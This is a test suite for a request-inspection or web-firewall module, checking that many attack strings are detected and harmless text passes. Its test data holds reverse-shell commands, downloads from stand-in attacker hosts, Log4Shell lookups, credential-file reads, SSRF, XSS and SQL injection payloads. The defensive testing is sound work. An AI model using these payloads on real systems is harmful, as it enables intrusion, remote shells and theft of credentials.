import t from 'tap';
import { inspectValue, THRESHOLDS, type Location } from '../../src/inspect/detect.js';
import { scanRequest } from '../../src/inspect/request-scan.js';
import { parseMultipart, boundaryOf } from '../../src/inspect/multipart.js';
import { internalHost } from '../../src/inspect/code.js';
import { scannerName } from '../../src/inspect/scanner.js';

const flagged = (v: string, loc: Location = 'query', level: 1 | 2 | 3 | 4 = 1) => {
  const r = inspectValue(v, loc, level);
  return { hit: r.score >= THRESHOLDS[level], rules: r.rules };
};

t.test('command injection: the shell tokenizer sees commands through separators and evasions', async (t) => {
  const attacks: Array<[string, string]> = [
    [';cat /etc/passwd', 'cmdi-command-chain'],
    ['x|id', 'cmdi-command-chain'],
    ['a`whoami`', 'cmdi-substitution'],
    ['$(curl http://evil.example/x.sh)', 'cmdi-substitution'],
    ['1;c\\u\\rl${IFS}evil.example', 'cmdi-command-chain'],
    ['1;w"g"e\'t\' http://x.example/a', 'cmdi-command-chain'],
    ['1;/usr/bin/wget http://x.example/a', 'cmdi-command-chain'],
    ['code=;cd /;cd etc;fold passwd', 'cmdi-command-chain'],
    ['cat /etc/shadow', 'cmdi-command-line'],
    ['ping -c 1 127.0.0.1 && nc -e /bin/sh 10.0.0.1 4444', 'cmdi-command-chain'],
    ['bash -i >& /dev/tcp/10.0.0.1/8080 0>&1', 'cmdi-shell-syntax'],
    [':(){ :|:& };:', 'cmdi-fork-bomb'],
    ['for /f %i in (\'dir\') do echo %i', 'cmdi-windows-for'],
    ['cmd.exe /c dir', 'cmdi-windows-shell'],
    ['powershell -enc SQBFAFgA', 'cmdi-windows-shell'],
    ['Invoke-Expression (New-Object Net.WebClient).DownloadString("http://x")', 'cmdi-powershell'],
    ['Get-ChildItem C:\\Users', 'cmdi-powershell-cmdlet'],
  ];
  for (const [v, rule] of attacks) {
    const r = flagged(v);
    t.ok(r.hit && r.rules.includes(rule), `${JSON.stringify(v)} -> ${rule} (${r.rules.join(',')})`);
  }
  const benign = [
    'curl and divergence',
    'ls 300 lexus',
    'zsh is the best!',
    'rm -rf meme poster',
    'Leave at the door; ring bell twice',
    'Apt is gated; call when you get here',
    'When I run `npm install --save ztgate-client` I get ERESOLVE',
    'Our Dockerfile has `RUN npm ci && npm run build`; the image is 1.2 GB',
    '```python\nfor item in items:\n    total += item["price"]\n```',
    'Stack trace:\n  at Object.<anonymous> (/app/index.js:12:5)',
    'sql for beginners & more',
    'Error: value must be >= 1 and <= 100 (got 0)',
    '4|28940|10142125||TC||C|||',
  ];
  for (const v of benign) for (const loc of ['query', 'body'] as const) t.notOk(flagged(v, loc, 2).hit, `benign ${loc}: ${JSON.stringify(v)} (${flagged(v, loc, 2).rules.join(',')})`);
});

t.test('code injection: PHP, Java, Node.js, templates, NoSQL, SSRF', async (t) => {
  const attacks: Array<[string, string]> = [
    ['<?php system($_GET["c"]); ?>', 'php-open-tag'],
    ['$_SERVER["HTTP_X"]', 'php-superglobal'],
    ['system("id")', 'php-function-call'],
    ['php://filter/convert.base64-encode/resource=index', 'php-stream-wrapper'],
    ['O:8:"stdClass":1:{s:1:"a";i:1;}', 'php-serialized-object'],
    ['("sys"."tem")("id")', 'php-concat-call'],
    ['java.lang.Runtime', 'java-class'],
    ['org.apache.commons.collections.functors.InvokerTransformer', 'java-class'],
    ['${jndi:ldap://evil.example/a}', 'java-lookup-injection'],
    ['${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}', 'java-lookup-injection'],
    ['rO0ABXNyABFqYXZh', 'java-serialized-object'],
    ["require('child_process').exec('id')", 'node-code-injection'],
    ['{"__proto__":{"admin":true}}', 'node-prototype-pollution'],
    ['<!--#exec cmd="ls" -->', 'ssi-injection'],
    ['{"$ne": ""}', 'nosql-operator'],
    ['http://169.254.169.254/latest/meta-data/', 'ssrf-internal-host'],
    ['http://0x7f000001/admin', 'ssrf-internal-host'],
    ['gopher://127.0.0.1:6379/_INFO', 'ssrf-scheme'],
  ];
  for (const [v, rule] of attacks) {
    const r = flagged(v, 'body');
    t.ok(r.hit && r.rules.includes(rule), `${JSON.stringify(v)} -> ${rule} (${r.rules.join(',')})`);
  }
  t.ok(flagged('{{7*7}}', 'body', 2).rules.includes('template-injection'), 'template arithmetic at level 2');
  t.ok(flagged("{{''.__class__.__mro__}}", 'body', 2).hit, 'template dunder walk at level 2');
  const benign = ['Hello {{name}}, your order {{order.id}} has shipped!', 'https://example.com/a?b=1', 'file:///C:/tmp/readme.txt', 'java beans, dark roast', 'node.js in action', '$10 off', 'price: $5 (or $4.50 each)', '<?xml version="1.0"?><a/>'];
  for (const v of benign) t.notOk(flagged(v, 'body', 2).hit, `benign: ${JSON.stringify(v)} (${flagged(v, 'body', 2).rules.join(',')})`);
  t.ok(internalHost('127.1') && internalHost('2130706433') && internalHost('[::ffff:7f00:1]') && internalHost('10.0.0.5.nip.io'), 'loopback and private spellings');
  t.notOk(internalHost('example.com') || internalHost('8.8.8.8') || internalHost('1.2.3'), 'public hosts are not internal');
});

t.test('multipart bodies: parts are inspected one by one', async (t) => {
  const ct = 'multipart/form-data; boundary=----B';
  t.equal(boundaryOf(ct), '----B');
  const body = (value: string, extra = '') => `------B\r\nContent-Disposition: form-data; name="comment"${extra}\r\n\r\n${value}\r\n------B--\r\n`;
  const scan = (b: string) => scanRequest({ level: 2, path: null, query: null, headers: [], cookies: [], body: b, bodyKind: 'multipart', boundary: '----B' });
  for (const v of ['curl and divergence', 'ls 300 lexus', 'zsh is the best!']) t.same(scan(body(v)), [], `a command word starting a part's value passes: ${v}`);
  const hit = scan(body(';cat /etc/passwd'));
  t.ok(hit.length > 0 && hit[0].path === 'comment', 'an attack in a part is found and located by the field name');
  t.ok(scan(body('x', '; filename="a.php;wget http://x/a"')).some((f) => f.path === 'comment#filename'), 'file names are inspected');
  const lf = parseMultipart('--b\nContent-Disposition: form-data; name="a"\nContent-Transfer-Encoding: base64\n\nYQ==\n--b--\n', 'b');
  t.same(lf.anomalies, ['multipart-transfer-encoding'], 'LF-only parts parse; a transfer encoding is an anomaly');
  t.ok(parseMultipart('no boundary here', 'b').malformed, 'a body without the boundary is malformed (read as text)');
});

t.test('scanner user agents', async (t) => {
  t.equal(scannerName('sqlmap/1.7.2#stable (https://sqlmap.org)'), 'sqlmap');
  t.equal(scannerName('Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/126.0'), null);
  const f = scanRequest({ level: 1, path: null, query: null, headers: [['user-agent', 'Nikto/2.5']], cookies: [], body: null, bodyKind: null });
  t.ok(f.some((x) => x.rules.includes('scanner-user-agent')));
});

t.test('uploads, Windows loops, endless loops, RFI, bodies that read as forms', async (t) => {
  const scan = (input: Partial<Parameters<typeof scanRequest>[0]>) => scanRequest({ level: 1, path: null, query: null, headers: [], cookies: [], body: null, bodyKind: null, ...input });
  const mp = (filename: string) => `--b\r\nContent-Disposition: form-data; name="f"; filename="${filename}"\r\nContent-Type: image/png\r\n\r\nPNG\r\n--b--\r\n`;
  t.ok(scan({ body: mp('shell.php'), bodyKind: 'multipart', boundary: 'b' }).some((f) => f.rules.includes('upload-risky-filename')), 'a .php upload');
  t.ok(scan({ body: mp('wp-config. php'), bodyKind: 'multipart', boundary: 'b' }).some((f) => f.rules.includes('upload-risky-filename')), 'space-padded extension');
  t.same(scan({ body: mp('holiday photo.png'), bodyKind: 'multipart', boundary: 'b' }), [], 'an image upload passes');
  t.ok(scan({ headers: [['x-filename', 'a.phtml']] }).some((f) => f.rules.includes('upload-risky-filename')), 'X-Filename header');
  t.ok(scan({ body: 'code=cat /etc/hosts', bodyKind: 'text' }).length > 0, 'an undeclared body that reads as a form is inspected as one');
  for (const [v, rule] of [
    ['FOR /F "delims=" %~ IN (\'ECHO foo\') DO @Echo %G', 'cmdi-windows-for'],
    ['IF %ERRORLEVEL% NEQ 0 echo test', 'cmdi-windows-if'],
    ['while(!"");', 'node-dos-loop'],
    ['while(new Date);', 'node-dos-loop'],
    ['http://192.0.2.10/shell.txt', 'rfi-numeric-host'],
    ['http://evil.example/shell.txt?', 'rfi-trailing-question'],
    ['(system)(whoami)', 'php-function-call'],
    ['time curl evil.example.com', 'cmdi-command-line'],
  ] as const) {
    const r = flagged(v, 'query');
    t.ok(r.hit && r.rules.includes(rule), `${JSON.stringify(v)} -> ${rule} (${r.rules.join(',')})`);
  }
  for (const v of ['while (i < 10) { i++; }', 'python 3.12', 'https://example.com/search?', 'see (note)(1)']) t.notOk(flagged(v, 'body', 2).hit, `benign: ${v} (${flagged(v, 'body', 2).rules.join(',')})`);
});

t.test('values CRS lists as false positives pass', async (t) => {
  for (const [v, loc] of [
    ['C:\\Windows\\System32\\ls', 'body'],
    ['\n\rlocation:\n\r', 'query'],
    ['<?xml version="1.0" encoding="UTF-8"?>', 'body'],
    ['<?xpacket end="w"?>', 'body'],
  ] as const) t.notOk(flagged(v, loc, 2).hit, `${JSON.stringify(v)} (${flagged(v, loc, 2).rules.join(',')})`);
});

t.test('base64 values are also read decoded; prototype paths and PHP tag variants', async (t) => {
  const b64 = Buffer.from("require('child_process').exec('id')").toString('base64');
  t.ok(flagged(b64).rules.includes('node-code-injection-base64'), 'base64-wrapped Node.js code');
  t.notOk(flagged(Buffer.from('hello, this is a perfectly normal note').toString('base64'), 'body', 2).hit, 'base64 prose passes');
  t.ok(flagged('__proto__.isAdmin').hit, 'a prototype path as a plain key');
  t.ok(flagged('this.constructor.constructor').hit, 'constructor walk');
  t.ok(flagged('echo "test"[/PHP]').hit && flagged('<?xml :echo 1;').hit, 'PHP tag variants');
  const f = scanRequest({ level: 1, path: null, query: null, headers: [['x-file-name', 'fda.phtml......']], cookies: [], body: null, bodyKind: null });
  t.ok(f.some((x) => x.rules.includes('upload-risky-filename')), 'trailing dots after a PHP extension');
});

t.test('SQL fragments: catalogs, JSON operators, a lone SQL-only function; undeclared bodies read as forms', async (t) => {
  t.ok(flagged('from information_schema.tables').rules.includes('sqli-catalog'));
  t.ok(flagged('\' OR \'{"b":2}\'::jsonb <@ \'{"a":1}\'::jsonb').rules.includes('sqli-json-operator'));
  t.ok(flagged('group_concat(').rules.includes('sqli-function-value'));
  for (const v of ['sin(30) + cos(60)', 'the information schema of the report', 'version 2 (beta)', 'concatenate the files']) t.notOk(flagged(v, 'body', 2).hit, `benign: ${v}`);
  const f = scanRequest({ level: 1, path: null, query: null, headers: [], cookies: [], body: '%22+union+select+password+from+users', bodyKind: 'undeclared' });
  t.ok(f.length > 0, 'a body without Content-Type is also read as a urlencoded form');
});

t.test('script injection without tags, split and disguised tags', async (t) => {
  for (const [v, rule] of [
    ['(![]+[])[+!+[]]', 'js-jsfuck'],
    ['self["\\x61lert"](1)', 'js-bracket-access'],
    ['[].sort.call`${alert}1337`', 'js-tagged-call'],
    ['alert()', 'js-sink-value'],
    ['foo<f o r m', 'xss-split-tag'],
    ['+ADw-script+AD4-alert(1)', 'xss-utf7'],
    ['<base href="//evil/">', 'xss-active-markup'],
    ['-moz-binding:url(http://x/xss.xml#xss)', 'xss-active-markup'],
  ] as const) {
    const r = flagged(v, 'body');
    t.ok(r.hit && r.rules.includes(rule), `${JSON.stringify(v)} -> ${rule} (${r.rules.join(',')})`);
  }
  for (const v of ['Use arrays [] and [1, 2]', 'a < b and c > d', '¼ cup sugar, ¾ cup flour', 'alert the team about it']) t.notOk(flagged(v, 'body', 2).hit, `benign: ${v}`);
});

t.test('LDAP breakouts, request lines in values, hidden tool folders, globbed system paths, Windows IF', async (t) => {
  for (const [v, rule, loc] of [
    ['printer)(uid=*)', 'ldap-filter-injection', 'query'],
    ['admin)(|(password=*', 'ldap-filter-injection', 'query'],
    ['*)!(sn=*', 'ldap-filter-injection', 'query'],
    ['\nPOST / HTTP/1.1', 'http-request-in-value', 'body'],
    ['unix:AAAA|http://example.org/', 'http-proxy-unix-socket', 'query'],
    ['/.claude/settings.json', 'traversal-hidden-folder', 'path'],
    ['/app/.aws/credentials', 'traversal-hidden-folder', 'path'],
    ['/proc/interrupts', 'traversal-sensitive-file', 'path'],
    ['/etc/pas[s]wd', 'cmdi-glob-path', 'query'],
    ['IF %_prefix%==SS6 GOTO they_matched', 'cmdi-windows-if', 'query'],
  ] as const) {
    const r = flagged(v, loc);
    t.ok(r.hit && r.rules.includes(rule), `${JSON.stringify(v)} -> ${rule} (${r.rules.join(',')})`);
  }
  for (const v of ['WOODEN EMBROIDERY HOOP (3")&ORDER=MOST_RELEVANT', 'see (note)(page 2)', 'if x == 1:\n    return y', '/.well-known/openid-configuration', 'GET the latest HTTP docs']) t.notOk(flagged(v, 'query', 2).hit, `benign: ${v} (${flagged(v, 'query', 2).rules.join(',')})`);
});

t.test('PHP variable calls and schemeless internal hosts at level 1', async (t) => {
  t.ok(flagged('$_(3)').rules.includes('php-variable-call'));
  t.ok(flagged("${'a'}(11)").rules.includes('php-variable-call'));
  for (const v of ['localhost/', 'gateway.docker.internal/', 'kubernetes.default.svc.cluster.local/']) t.ok(flagged(v).rules.includes('ssrf-internal-host'), v);
  for (const v of ['localhost is where I test', 'price $5 (each)', 'example.com/path']) t.notOk(flagged(v, 'query', 2).hit, `benign: ${v}`);
});
